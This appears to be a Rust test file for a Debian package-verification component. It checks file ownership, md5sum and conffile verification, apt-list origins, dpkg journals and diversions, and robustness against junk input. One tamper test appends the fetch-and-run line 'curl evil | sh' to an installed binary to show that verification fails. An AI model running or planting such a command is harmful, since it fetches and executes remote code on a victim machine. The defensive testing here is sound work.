//! `palisade_agent::debian` against the real system's dpkg database and apt
//! lists, against a fake root where packages are built with `dpkg-deb` and
//! installed with the real `dpkg`, and against hostile input.
use palisade_agent::debian::{LivePackageDb, PackageDb};
use std::fs;
use std::io::{Read, Seek, Write};
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

fn have(cmd: &str) -> bool {
    Command::new(cmd)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

fn run(cmd: &mut Command) {
    let out = cmd.output().expect("spawn");
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

// ---------------------------------------------------------------------------
// 1. The real system.

#[test]
fn real_system_coreutils_ls() {
    if !Path::new("/var/lib/dpkg/status").exists() || !Path::new("/usr/bin/ls").exists() {
        eprintln!("SKIP: not a Debian system");
        return;
    }
    let t = Instant::now();
    let db = PackageDb::load(Path::new("/")).expect("load /");
    let load = t.elapsed();
    let (pkgs, paths) = db.counts();
    eprintln!("loaded / in {load:?}: {pkgs} packages, {paths} paths");
    let t = Instant::now();
    let again = db.reloaded().expect("reload");
    eprintln!("reload with unchanged apt lists: {:?}", t.elapsed());
    drop(again);
    assert!(!db.changed());

    // dpkg records /bin/ls; the canonical path on merged /usr is /usr/bin/ls.
    let canonical = fs::canonicalize("/bin/ls").expect("canonicalize");
    let canonical = canonical.to_str().expect("utf-8");
    let owner = db.owner(canonical).expect("ls has an owner");
    assert_eq!(owner.package, "coreutils");
    let mut file = fs::File::open(canonical).expect("open ls");
    // The offset is left where it was.
    let mut first = [0u8; 3];
    file.read_exact(&mut first).expect("read");
    let t = Instant::now();
    let fact = db.fact(canonical, file.as_fd()).expect("fact");
    eprintln!("fact for {canonical}: {:?} ({fact:?})", t.elapsed());
    assert_eq!(file.stream_position().expect("pos"), 3);
    assert_eq!(fact.package, "coreutils");
    assert_eq!(fact.version, owner.version);
    assert!(fact.verified, "{canonical} must match coreutils' md5sums");
    assert_eq!(fact.name.as_deref(), Some("Debian"));
    assert_eq!(
        db.origins("coreutils", &owner.version, &owner.arch),
        vec!["Debian".to_owned()]
    );

    // A copy modified by one byte, attributed the same path, is not verified.
    let dir = tempfile::tempdir().expect("tempdir");
    let copy = dir.path().join("ls");
    let mut bytes = fs::read(canonical).expect("read ls");
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    fs::write(&copy, &bytes).expect("write copy");
    let tampered = fs::File::open(&copy).expect("open copy");
    let fact = db.fact(canonical, tampered.as_fd()).expect("fact");
    assert_eq!(fact.package, "coreutils");
    assert!(!fact.verified, "a modified copy must not verify");

    // Not owned by any package.
    assert!(db
        .fact(copy.to_str().expect("utf-8"), tampered.as_fd())
        .is_none());
    assert!(db.owner("/usr/bin/palisade-surely-not-packaged").is_none());
}

// ---------------------------------------------------------------------------
// 2. A fake root with packages installed by the real dpkg.

struct FakeRoot {
    _dir: tempfile::TempDir,
    root: PathBuf,
    work: PathBuf,
    arch: String,
}

impl FakeRoot {
    fn new() -> FakeRoot {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("root");
        let work = dir.path().join("work");
        for d in ["var/lib/dpkg/info", "var/lib/dpkg/updates"] {
            fs::create_dir_all(root.join(d)).expect("mkdir");
        }
        fs::write(root.join("var/lib/dpkg/status"), "").expect("status");
        fs::create_dir_all(&work).expect("mkdir");
        let out = Command::new("dpkg")
            .arg("--print-architecture")
            .output()
            .expect("dpkg");
        let arch = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        FakeRoot {
            _dir: dir,
            root,
            work,
            arch,
        }
    }

    /// Build `palisade-hello` at `version` with `dpkg-deb` and install it
    /// with `dpkg -i` into the fake root.
    fn install_hello(&self, version: &str) {
        let pkg = self.work.join(format!("pkg-{version}"));
        fs::create_dir_all(pkg.join("DEBIAN")).expect("mkdir");
        fs::create_dir_all(pkg.join("usr/bin")).expect("mkdir");
        fs::create_dir_all(pkg.join("etc")).expect("mkdir");
        let bin = pkg.join("usr/bin/palisade-hello");
        fs::write(&bin, format!("#!/bin/sh\necho hello {version}\n")).expect("write");
        run(Command::new("chmod").arg("755").arg(&bin));
        fs::write(pkg.join("etc/palisade-hello.conf"), "greeting=hello\n").expect("conf");
        fs::write(
            pkg.join("DEBIAN/control"),
            format!(
                "Package: palisade-hello\nVersion: {version}\nArchitecture: {}\n\
                 Maintainer: Palisade Tests <tests@example.org>\nDescription: test package\n",
                self.arch
            ),
        )
        .expect("control");
        fs::write(pkg.join("DEBIAN/conffiles"), "/etc/palisade-hello.conf\n").expect("conffiles");
        let deb = self.work.join(format!("palisade-hello_{version}.deb"));
        run(Command::new("dpkg-deb")
            .arg("--root-owner-group")
            .arg("--build")
            .arg(&pkg)
            .arg(&deb));
        run(Command::new("dpkg")
            .arg(format!("--root={}", self.root.display()))
            .arg(format!("--log={}", self.work.join("dpkg.log").display()))
            .args([
                "--force-not-root",
                "--force-bad-path",
                "--force-script-chrootless",
                "-i",
            ])
            .arg(&deb));
    }

    fn path(&self, p: &str) -> PathBuf {
        self.root.join(p.trim_start_matches('/'))
    }

    fn lists(&self) -> PathBuf {
        let l = self.root.join("var/lib/apt/lists");
        fs::create_dir_all(&l).expect("mkdir lists");
        l
    }

    fn write_inrelease(&self, prefix: &str, origin: &str) {
        fs::write(
            self.lists().join(format!("{prefix}InRelease")),
            format!(
                "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n\
                 Origin: {origin}\nLabel: {origin}\nSuite: stable\nCodename: stable\n\
                 Architectures: {}\nComponents: main\nSHA256:\n \
                 0000000000000000000000000000000000000000000000000000000000000000 1 main/binary-{}/Packages\n\
                 -----BEGIN PGP SIGNATURE-----\n\niQIzBAEBCgAdFiEE\n=abcd\n-----END PGP SIGNATURE-----\n",
                self.arch, self.arch
            ),
        )
        .expect("InRelease");
    }

    fn packages_stanza(&self, version: &str) -> String {
        format!(
            "Package: other\nVersion: 1\nArchitecture: all\nDescription: x\n\n\
             Package: palisade-hello\nVersion: {version}\nInstalled-Size: 1\n\
             Maintainer: Palisade Tests <tests@example.org>\nArchitecture: {}\n\
             Description: test package\n long description\n .\n more\n\
             Filename: pool/main/p/palisade-hello/palisade-hello_{version}_{}.deb\n\
             Size: 1000\nSHA256: 00\n",
            self.arch, self.arch
        )
    }
}

fn fact_of(
    db: &PackageDb,
    fake: &FakeRoot,
    p: &str,
) -> Option<palisade_core::rules::PublisherFact> {
    let f = fs::File::open(fake.path(p)).expect("open");
    db.fact(p, f.as_fd())
}

#[test]
fn dpkg_installed_package_in_fake_root() {
    if !is_root() || !have("dpkg") || !have("dpkg-deb") {
        eprintln!("SKIP: needs root, dpkg and dpkg-deb");
        return;
    }
    let fake = FakeRoot::new();
    fake.install_hello("1.0-1");
    let mut db = PackageDb::load(&fake.root).expect("load");
    let live = LivePackageDb::load(&fake.root).expect("load live");

    // Owned, verified, no publisher without apt lists.
    let owner = db.owner("/usr/bin/palisade-hello").expect("owner");
    assert_eq!(
        (
            owner.package.as_str(),
            owner.arch.as_str(),
            owner.version.as_str()
        ),
        ("palisade-hello", fake.arch.as_str(), "1.0-1")
    );
    let fact = fact_of(&db, &fake, "/usr/bin/palisade-hello").expect("fact");
    assert_eq!(fact.package, "palisade-hello");
    assert_eq!(fact.version, "1.0-1");
    assert!(fact.verified);
    assert_eq!(fact.name, None);
    assert!(db
        .recorded_md5("palisade-hello", "/usr/bin/palisade-hello")
        .is_some());
    assert!(db
        .recorded_md5(
            &format!("palisade-hello:{}", fake.arch),
            "/usr/bin/palisade-hello"
        )
        .is_some());
    // A conffile verifies against the status file's Conffiles checksum.
    let conf = fact_of(&db, &fake, "/etc/palisade-hello.conf").expect("conffile fact");
    assert!(conf.verified);
    fs::write(fake.path("/etc/palisade-hello.conf"), "greeting=evil\n").expect("edit conf");
    assert!(
        !fact_of(&db, &fake, "/etc/palisade-hello.conf")
            .expect("fact")
            .verified
    );
    // No merged /usr in the fake root: no aliasing.
    assert!(db.owner("/bin/palisade-hello").is_none());
    // Unowned files and directories.
    fs::write(fake.path("/usr/bin/dropped"), "#!/bin/sh\n").expect("write");
    assert!(fact_of(&db, &fake, "/usr/bin/dropped").is_none());
    assert!(!db.changed());

    // A signed apt list that provides this exact version: the publisher.
    let prefix = "example.org_debian_dists_stable_";
    fake.write_inrelease(prefix, "PalisadeTest");
    let packages = fake
        .lists()
        .join(format!("{prefix}main_binary-{}_Packages", fake.arch));
    fs::write(&packages, fake.packages_stanza("1.0-1")).expect("Packages");
    assert!(db.changed(), "a new apt list is a change");
    db.reload().expect("reload");
    assert!(!db.changed());
    let fact = fact_of(&db, &fake, "/usr/bin/palisade-hello").expect("fact");
    assert_eq!(fact.name.as_deref(), Some("PalisadeTest"));
    assert!(fact.verified);
    // The live wrapper reloads on its own.
    assert_eq!(
        live.fact(
            "/usr/bin/palisade-hello",
            fs::File::open(fake.path("/usr/bin/palisade-hello"))
                .expect("open")
                .as_fd()
        )
        .and_then(|f| f.name)
        .as_deref(),
        Some("PalisadeTest")
    );

    // Another repository, sorting later, with another origin for the same
    // version: `origin` keeps the first, `origins` lists both.
    let other = "zz.example.net_repo_dists_stable_";
    fake.write_inrelease(other, "Elsewhere");
    fs::write(
        fake.lists()
            .join(format!("{other}main_binary-{}_Packages", fake.arch)),
        fake.packages_stanza("1.0-1"),
    )
    .expect("Packages");
    db.reload().expect("reload");
    assert_eq!(
        db.origins("palisade-hello", "1.0-1", &fake.arch),
        vec!["PalisadeTest".to_owned(), "Elsewhere".to_owned()]
    );
    assert_eq!(
        db.origin("palisade-hello", "1.0-1", &fake.arch).as_deref(),
        Some("PalisadeTest")
    );
    for f in [
        format!("{other}InRelease"),
        format!("{other}main_binary-{}_Packages", fake.arch),
    ] {
        fs::remove_file(fake.lists().join(f)).expect("rm");
    }

    // The list provides another version only: no publisher.
    fs::write(&packages, fake.packages_stanza("1.0-0")).expect("Packages");
    assert!(db.changed(), "a list rewritten in place is a change");
    db.reload().expect("reload");
    assert_eq!(
        fact_of(&db, &fake, "/usr/bin/palisade-hello")
            .expect("fact")
            .name,
        None
    );

    // Compressed (gzip) index.
    fs::remove_file(&packages).expect("rm");
    let gz = packages.with_file_name(format!("{prefix}main_binary-{}_Packages.gz", fake.arch));
    let mut child = Command::new("gzip")
        .arg("-c")
        .stdin(std::process::Stdio::piped())
        .stdout(fs::File::create(&gz).expect("create gz"))
        .spawn()
        .expect("gzip");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(fake.packages_stanza("1.0-1").as_bytes())
        .expect("pipe");
    assert!(child.wait().expect("gzip").success());
    db.reload().expect("reload");
    assert_eq!(
        fact_of(&db, &fake, "/usr/bin/palisade-hello")
            .expect("fact")
            .name
            .as_deref(),
        Some("PalisadeTest")
    );

    // lz4, as apt stores lists on this kind of machine, when lz4 is at hand.
    if have("lz4") {
        fs::remove_file(&gz).expect("rm");
        let plain = fake.work.join("Packages");
        fs::write(&plain, fake.packages_stanza("1.0-1")).expect("write");
        let lz = packages.with_file_name(format!("{prefix}main_binary-{}_Packages.lz4", fake.arch));
        run(Command::new("lz4").arg("-q").arg("-f").arg(&plain).arg(&lz));
        db.reload().expect("reload");
        assert_eq!(
            fact_of(&db, &fake, "/usr/bin/palisade-hello")
                .expect("fact")
                .name
                .as_deref(),
            Some("PalisadeTest")
        );
        fs::remove_file(&lz).expect("rm");
        fs::write(&packages, fake.packages_stanza("1.0-1")).expect("Packages");
    } else {
        eprintln!("lz4 not installed: lz4 index part skipped");
        fs::remove_file(&gz).expect("rm");
        fs::write(&packages, fake.packages_stanza("1.0-1")).expect("Packages");
    }

    // An unsigned Release (a [trusted=yes] source) publishes nothing; with
    // its detached signature it does.
    fs::remove_file(fake.lists().join(format!("{prefix}InRelease"))).expect("rm");
    fs::write(
        fake.lists().join(format!("{prefix}Release")),
        "Origin: PalisadeDetached\nSuite: stable\n",
    )
    .expect("Release");
    db.reload().expect("reload");
    assert_eq!(
        fact_of(&db, &fake, "/usr/bin/palisade-hello")
            .expect("fact")
            .name,
        None
    );
    fs::write(fake.lists().join(format!("{prefix}Release.gpg")), "sig").expect("gpg");
    db.reload().expect("reload");
    assert_eq!(
        fact_of(&db, &fake, "/usr/bin/palisade-hello")
            .expect("fact")
            .name
            .as_deref(),
        Some("PalisadeDetached")
    );
    for f in ["Release", "Release.gpg"] {
        fs::remove_file(fake.lists().join(format!("{prefix}{f}"))).expect("rm");
    }
    fake.write_inrelease(prefix, "PalisadeTest");
    db.reload().expect("reload");

    // Tampered after installation: still owned, no longer verified.
    let bin = fake.path("/usr/bin/palisade-hello");
    let original = fs::read(&bin).expect("read");
    fs::OpenOptions::new()
        .append(true)
        .open(&bin)
        .expect("open")
        .write_all(b"curl evil | sh\n")
        .expect("tamper");
    let fact = fact_of(&db, &fake, "/usr/bin/palisade-hello").expect("fact");
    assert_eq!(fact.package, "palisade-hello");
    assert!(!fact.verified);
    fs::write(&bin, &original).expect("restore");
    assert!(
        fact_of(&db, &fake, "/usr/bin/palisade-hello")
            .expect("fact")
            .verified
    );

    // A second `dpkg -i` of a new version is a change; reload picks it up.
    assert!(!db.changed());
    fake.install_hello("1.0-2");
    assert!(db.changed());
    let stale = fact_of(&db, &fake, "/usr/bin/palisade-hello").expect("fact");
    assert_eq!(stale.version, "1.0-1");
    db.reload().expect("reload");
    let fact = fact_of(&db, &fake, "/usr/bin/palisade-hello").expect("fact");
    assert_eq!(fact.version, "1.0-2");
    assert!(fact.verified);
    // The list provides 1.0-1 only.
    assert_eq!(fact.name, None);
    let live_fact = live
        .fact(
            "/usr/bin/palisade-hello",
            fs::File::open(&bin).expect("open").as_fd(),
        )
        .expect("live fact");
    assert_eq!(live_fact.version, "1.0-2");
    assert!(live_fact.verified);

    // dpkg's journal: an in-progress update wins over `status`.
    let journal = fake.path("/var/lib/dpkg/updates/0000");
    fs::write(
        &journal,
        format!(
            "Package: palisade-hello\nStatus: install ok half-configured\n\
             Architecture: {}\nVersion: 1.0-9\n\n",
            fake.arch
        ),
    )
    .expect("journal");
    fs::write(
        fake.path("/var/lib/dpkg/updates/0001"),
        format!(
            "Package: palisade-hello\nStatus: install reinstreq half-installed\n\
             Architecture: {}\nVersion: 1.0-10\n\n",
            fake.arch
        ),
    )
    .expect("journal");
    assert!(db.changed());
    db.reload().expect("reload");
    assert_eq!(
        db.owner("/usr/bin/palisade-hello").expect("owner").version,
        "1.0-10"
    );
    fs::write(
        fake.path("/var/lib/dpkg/updates/0002"),
        format!(
            "Package: palisade-hello\nStatus: deinstall ok config-files\n\
             Architecture: {}\nVersion: 1.0-10\n\n",
            fake.arch
        ),
    )
    .expect("journal");
    db.reload().expect("reload");
    assert!(db.owner("/usr/bin/palisade-hello").is_none());
    for n in ["0000", "0001", "0002"] {
        fs::remove_file(fake.path(&format!("/var/lib/dpkg/updates/{n}"))).expect("rm");
    }
    db.reload().expect("reload");
    assert_eq!(
        db.owner("/usr/bin/palisade-hello").expect("owner").version,
        "1.0-2"
    );

    // A local diversion (real dpkg-divert): the packaged file moves to the
    // divert-to path and keeps its attribution there; whatever is put at the
    // original path belongs to no package.
    if have("dpkg-divert") {
        run(Command::new("dpkg-divert")
            .arg(format!("--root={}", fake.root.display()))
            .args(["--local", "--rename", "--divert"])
            .arg("/usr/bin/palisade-hello.orig")
            .args(["--add", "/usr/bin/palisade-hello"]));
        assert!(db.changed());
        db.reload().expect("reload");
        let moved = fact_of(&db, &fake, "/usr/bin/palisade-hello.orig").expect("diverted fact");
        assert_eq!(moved.package, "palisade-hello");
        assert!(moved.verified);
        assert_eq!(
            db.owner("/usr/bin/palisade-hello.orig")
                .expect("owner")
                .recorded_path,
            "/usr/bin/palisade-hello"
        );
        fs::write(&bin, "#!/bin/sh\necho local\n").expect("write");
        assert!(fact_of(&db, &fake, "/usr/bin/palisade-hello").is_none());
    }
}

// ---------------------------------------------------------------------------
// 3. Hostile input.

/// A small deterministic generator of junk.
struct Junk(u64);

impl Junk {
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n)
            .map(|_| {
                self.0 ^= self.0 << 13;
                self.0 ^= self.0 >> 7;
                self.0 ^= self.0 << 17;
                // Mostly text-like bytes, with newlines, colons and spaces.
                match self.0 % 16 {
                    0 => b'\n',
                    1 => b':',
                    2 => b' ',
                    3 => (self.0 >> 8) as u8,
                    _ => b'a' + ((self.0 >> 8) % 26) as u8,
                }
            })
            .collect()
    }
}

fn hostile_root(junk: &mut Junk) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let r = dir.path();
    for d in [
        "var/lib/dpkg/info",
        "var/lib/dpkg/updates",
        "var/lib/apt/lists",
    ] {
        fs::create_dir_all(r.join(d)).expect("mkdir");
    }
    // One plausible package among junk, so the lookups have something to find.
    let mut status = b"Package: victim\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\nConffiles:\n /etc/x nothex\n /etc/y\n\n".to_vec();
    status.extend(junk.bytes(4000));
    status
        .extend(b"\n\nPackage: victim2\nStatus: install\nVersion:\n\n\xff\xfe\x00Package: \xff\n");
    fs::write(r.join("var/lib/dpkg/status"), status).expect("status");
    fs::write(r.join("var/lib/dpkg/updates/0001"), junk.bytes(500)).expect("update");
    fs::write(
        r.join("var/lib/dpkg/updates/99999999999999999999999"),
        junk.bytes(100),
    )
    .expect("update");
    fs::write(r.join("var/lib/dpkg/updates/tmp.i"), junk.bytes(100)).expect("update");
    let mut list = junk.bytes(3000);
    list.extend(b"\n/usr/bin/victim\n/\n\n\xff/bad\n");
    fs::write(r.join("var/lib/dpkg/info/victim.list"), list).expect("list");
    let mut sums = junk.bytes(3000);
    sums.extend(b"\nzzzz4179e324c784b99e98fedee05260f7  usr/bin/victim\n7a4179e324c784b99e98fedee05260f7\n7a4179e324c784b99e98fedee05260f7  \n\xff\xff\n");
    fs::write(r.join("var/lib/dpkg/info/victim.md5sums"), sums).expect("md5sums");
    fs::write(r.join("var/lib/dpkg/diversions"), junk.bytes(700)).expect("diversions");
    let lists = r.join("var/lib/apt/lists");
    fs::write(lists.join("h_dists_s_InRelease"), junk.bytes(2000)).expect("InRelease");
    let mut signed = b"-----BEGIN PGP SIGNED MESSAGE-----\n".to_vec();
    signed.extend(junk.bytes(500));
    fs::write(lists.join("g_dists_s_InRelease"), signed).expect("InRelease");
    fs::write(
        lists.join("g_dists_s_main_binary-amd64_Packages"),
        junk.bytes(20000),
    )
    .expect("Packages");
    fs::write(
        lists.join("h_dists_s_main_binary-amd64_Packages"),
        junk.bytes(20000),
    )
    .expect("Packages");
    fs::write(
        lists.join("h_dists_s_main_binary-amd64_Packages.lz4"),
        junk.bytes(5000),
    )
    .expect("lz4");
    let mut lz4_header = vec![0x04, 0x22, 0x4d, 0x18];
    lz4_header.extend(junk.bytes(5000));
    fs::write(
        lists.join("h_dists_s_main_binary-i386_Packages.lz4"),
        lz4_header,
    )
    .expect("lz4");
    let mut gz_header = vec![0x1f, 0x8b, 0x08, 0x00];
    gz_header.extend(junk.bytes(5000));
    fs::write(
        lists.join("h_dists_s_main_binary-arm64_Packages.gz"),
        gz_header,
    )
    .expect("gz");
    fs::write(
        lists.join("h_dists_s_main_binary-armel_Packages.xz"),
        junk.bytes(100),
    )
    .expect("xz");
    fs::write(lists.join("Release"), junk.bytes(100)).expect("Release");
    fs::write(lists.join("_Packages"), junk.bytes(100)).expect("Packages");
    fs::create_dir_all(lists.join("x_dists_s_main_binary-amd64_Packages"))
        .expect("dir named like a list");
    dir
}

#[test]
fn hostile_input_never_panics() {
    let mut junk = Junk(0x9e37_79b9_7f4a_7c15);
    for round in 0..20 {
        let dir = hostile_root(&mut junk);
        let mut db = PackageDb::load(dir.path()).expect("load");
        let victim = dir.path().join("victim");
        fs::write(&victim, junk.bytes(100)).expect("write");
        let f = fs::File::open(&victim).expect("open");
        // The plausible package owns its path, but nothing verifies it and no
        // list publishes it.
        let fact = db
            .fact("/usr/bin/victim", f.as_fd())
            .expect("victim is owned");
        assert_eq!(fact.package, "victim", "round {round}");
        assert!(!fact.verified);
        assert_eq!(fact.name, None);
        assert!(db.recorded_md5("victim", "/usr/bin/victim").is_none());
        assert!(db.recorded_md5("victim", "/etc/x").is_none());
        assert!(db.fact("/bad", f.as_fd()).is_none());
        assert!(db.fact("", f.as_fd()).is_none());
        assert!(db.fact("relative", f.as_fd()).is_none());
        assert!(db.origin("victim", "1", "amd64").is_none());
        for p in ["/", "/usr/bin/", "/etc/x", "/usr/bin/victim/", "\u{0}"] {
            let _ = db.fact(p, f.as_fd());
            let _ = db.owners(p);
        }
        // A directory as the descriptor: not readable as content.
        let d = fs::File::open(dir.path()).expect("open dir");
        assert!(
            !db.fact("/usr/bin/victim", d.as_fd())
                .expect("owned")
                .verified
        );
        db.reload().expect("reload");
    }
}

#[test]
fn missing_everything_is_unknown() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = PackageDb::load(dir.path()).expect("an empty root loads");
    assert_eq!(db.counts(), (0, 0));
    let f = fs::File::open("/proc/self/exe").expect("open");
    assert!(db.fact("/usr/bin/ls", f.as_fd()).is_none());
    assert!(!db.changed());
    fs::create_dir_all(dir.path().join("var/lib/dpkg")).expect("mkdir");
    fs::write(dir.path().join("var/lib/dpkg/status"), "").expect("status");
    assert!(db.changed());
}
